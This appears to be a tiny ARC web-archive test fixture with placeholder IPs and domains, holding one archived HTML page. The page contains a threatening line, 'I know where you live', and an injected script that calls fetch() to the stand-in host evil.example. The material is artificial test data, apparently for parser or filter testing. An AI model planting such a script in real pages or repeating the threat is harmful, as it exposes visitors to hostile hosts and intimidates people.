filedesc://a.arc 192.0.2.1 20240305160500 text/plain 73
1 0 Examplecrawl
URL IP-address Archive-date Content-type Archive-length

https://social.example/a b 192.0.2.7 20240305160512 text/html 236
HTTP/1.1 200 OK
Content-Type: text/html; charset=utf-8

<html><head><title>Sana</title></head><body><p>I know where you live, canary</p><img src=/a.png><script>fetch('https://evil.example')</script><a href=/u/2>Iqra</a></body></html>
